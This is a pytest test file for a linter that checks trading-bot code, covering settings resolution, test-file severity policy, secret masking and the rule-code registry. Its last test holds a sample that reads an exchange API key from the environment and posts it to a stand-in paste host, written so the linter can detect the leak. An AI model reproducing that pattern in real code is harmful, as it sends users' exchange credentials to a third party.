"""The engine as a pipeline (issue 9, items 5 and 6): a frozen run configuration built by the
engine itself, family policy read from rule attributes, and a registry that refuses codes no
rule declares."""
from __future__ import annotations

import dataclasses

import pytest

from botlint import fakes, registry
from botlint.config import RunConfig, Settings, resolve
from botlint.engine import lint_bytes, lint_source

from helpers import settings

SECRET_LINE = 'API_SECRET = "{{fake:alnum64}}"\n'
WITHDRAW = "import ccxt\nex = ccxt.binance()\nex.withdraw('USDT', 10, 'addr')\n"


def codes(findings):
    return sorted({f.code for f in findings})


# -- the run configuration ------------------------------------------------------------------

def test_the_public_api_needs_no_resolve_step():
    s = Settings(select=["BOT3"])  # never resolved by the caller
    found = lint_source(WITHDRAW, "bot.py", s)
    assert codes(found) == ["BOT301"]


def test_resolve_freezes_and_never_changes_the_settings():
    s = Settings(select=["BOT1"], permission_checks=["check_key"])
    before = dataclasses.asdict(s)
    config = resolve(s)
    assert dataclasses.asdict(s) == before
    assert isinstance(config.enabled, frozenset) and config.enabled == frozenset(registry.expand("BOT1")) - {"BOT110"}
    assert config.permission_checks == ("check_key",)
    with pytest.raises(dataclasses.FrozenInstanceError):
        config.max_file_size = 1  # type: ignore[misc]
    assert resolve(config) is config


def test_rules_read_the_run_configuration_as_ctx_settings(monkeypatch):
    from botlint.rules.bot1_credentials import HardcodedApiCredential

    seen = []
    real = HardcodedApiCredential.visit_Assign

    def spy(self, node):
        seen.append(self.ctx.settings)
        return real(self, node)

    monkeypatch.setattr(HardcodedApiCredential, "visit_Assign", spy)
    lint_source(fakes.expand(SECRET_LINE), "bot.py", settings(["BOT1"]))
    assert seen and all(isinstance(c, RunConfig) and c.secrets.base64_limit == 3.5 for c in seen)


def test_per_file_ignores_are_expanded_once_at_resolve():
    config = resolve(settings(per_file_ignores={"legacy/*.py": ["BOT1"]}))
    assert dict(config.per_file_ignores)["legacy/*.py"] == frozenset(registry.expand("BOT1"))


# -- family policy as rule attributes -------------------------------------------------------

def test_bot1_is_secret_and_lowered_in_tests_and_bot0_comes_from_the_engine():
    for rule in registry.all_rules():
        if rule.CODE.startswith("BOT1"):
            assert rule.SECRET and rule.IN_TESTS == "lower", rule.CODE
        else:
            assert not rule.SECRET, rule.CODE
        if rule.CODE.startswith("BOT0"):
            assert rule.SOURCE == "engine", rule.CODE


@pytest.mark.parametrize("policy", ["keep", "lower", "skip"])
def test_in_tests_policy_applies_to_any_family(monkeypatch, policy):
    """Read by the engine for every code, engine-made ones too (BOT001 here)."""
    from botlint.rules.bot0_tool import SyntaxErrorRule

    monkeypatch.setattr(SyntaxErrorRule, "IN_TESTS", policy)
    broken = "def f(:\n    pass\n"
    ordinary = lint_source(broken, "bot.py", settings(["BOT001"]))
    in_test = lint_source(broken, "tests/test_bot.py", settings(["BOT001"]))
    assert codes(ordinary) == ["BOT001"]
    expected = {"keep": [ordinary[0].severity], "lower": [ordinary[0].severity.lowered()], "skip": []}[policy]
    assert [f.severity for f in in_test] == expected


def test_each_family_states_its_test_policy():
    """The engine applies IN_TESTS; no rule checks ``ctx.is_test`` for it any more."""
    from botlint.rule import Rule

    assert Rule.IN_TESTS == "keep"
    ordinary = lint_source(WITHDRAW, "bot.py", settings(["BOT3"]))
    in_test = lint_source(WITHDRAW, "tests/test_bot.py", settings(["BOT3"]))
    assert registry.get("BOT301").IN_TESTS == "lower"
    assert [f.severity.lowered() for f in ordinary] == [f.severity for f in in_test]
    unguarded = "import ccxt, os\nex = ccxt.binance({'apiKey': os.environ['K'], 'secret': os.environ['S']})\n"
    assert codes(lint_source(unguarded, "bot.py", settings(["BOT4"]))) == ["BOT401"]
    assert lint_source(unguarded, "tests/test_bot.py", settings(["BOT4"])) == []
    assert registry.get("BOT401").IN_TESTS == "skip"


def test_secret_attribute_drives_masking_and_the_allowlist_pragma(monkeypatch):
    from botlint.rules.bot1_credentials import HardcodedApiCredential

    src = fakes.expand('API_SECRET = "{{fake:alnum64}}"  # pragma: allowlist secret\n')
    assert lint_source(src, "bot.py", settings(["BOT101"])) == []
    monkeypatch.setattr(HardcodedApiCredential, "SECRET", False)
    assert codes(lint_source(src, "bot.py", settings(["BOT101"]))) == ["BOT101"]


# -- the registry ---------------------------------------------------------------------------

def test_a_mistyped_code_fails_loudly_instead_of_dropping_the_finding(monkeypatch):
    from botlint.rules.bot1_credentials import HardcodedApiCredential

    def typo(self, node):
        self.report(node, "a finding under a code nobody declared", code="BOT199")

    monkeypatch.setattr(HardcodedApiCredential, "visit_Assign", typo)
    res = lint_bytes("bot.py", fakes.expand(SECRET_LINE).encode(), "python", settings(["BOT1", "BOT006"]))
    assert res.errors and "UnknownCode" in res.errors[0]
    assert "BOT006" in codes(res.findings)  # the file says it was not fully analysed


def test_report_refuses_a_code_its_rule_does_not_declare():
    import libcst as cst

    from botlint.rule import FileContext, UnknownCode
    from botlint.rules.bot3_fund_moving import FundMovingCall

    rule = FundMovingCall(FileContext(path="x.py", source="", settings=resolve(None)))
    rule.report(cst.Name("x"), "ok", code="BOT302")
    with pytest.raises(UnknownCode, match="BOT399"):
        rule.report(cst.Name("x"), "typo", code="BOT399")
    with pytest.raises(UnknownCode):
        rule.report(cst.Name("x"), "another family", code="BOT101")


def test_registry_validation_names_the_problem(monkeypatch):
    from botlint.rules.bot0_tool import UnreadableFile
    from botlint.rules.bot1_credentials import HardcodedApiCredential

    registry.validate()
    with monkeypatch.context() as m:
        m.setattr(HardcodedApiCredential, "REPORTS", HardcodedApiCredential.REPORTS + ("BOT199",))
        with pytest.raises(registry.RegistryError, match="BOT199"):
            registry.validate()
    with monkeypatch.context() as m:
        m.setattr(HardcodedApiCredential, "REPORTS", HardcodedApiCredential.REPORTS + ("BOT301",))
        with pytest.raises(registry.RegistryError, match="BOT301 must have exactly one producer"):
            registry.validate()
    with monkeypatch.context() as m:
        m.setattr(UnreadableFile, "SOURCE", None)
        with pytest.raises(registry.RegistryError, match="BOT005"):
            registry.validate()
    with monkeypatch.context() as m:
        m.setattr(UnreadableFile, "IN_TESTS", "lowered")
        with pytest.raises(registry.RegistryError, match="IN_TESTS"):
            registry.validate()


def test_a_leak_in_a_test_is_kept_one_severity_lower():
    # BOT2's test policy (rules/bot2/_family.py): a local sink (a log call) is not reported in
    # a test file, a network sink (a third-party host) is kept one severity lower
    local = ("import os, logging\nlog = logging.getLogger()\nKEY = os.environ['BINANCE_API_KEY']\n"
             "log.info('key %s', KEY)\n")
    assert codes(lint_source(local, "bot.py", settings(["BOT2"]))) == ["BOT201"]
    assert lint_source(local, "tests/test_bot.py", settings(["BOT2"])) == []
    leak = ("import os, requests\nKEY = os.environ['BINANCE_API_KEY']\n"
            "requests.post('https://paste.example.net/api', data={'k': KEY})\n")
    ordinary = lint_source(leak, "bot.py", settings(["BOT2"]))
    in_test = lint_source(leak, "tests/test_bot.py", settings(["BOT2"]))
    assert codes(ordinary) == codes(in_test) == ["BOT205"]
    assert in_test[0].severity == ordinary[0].severity.lowered()
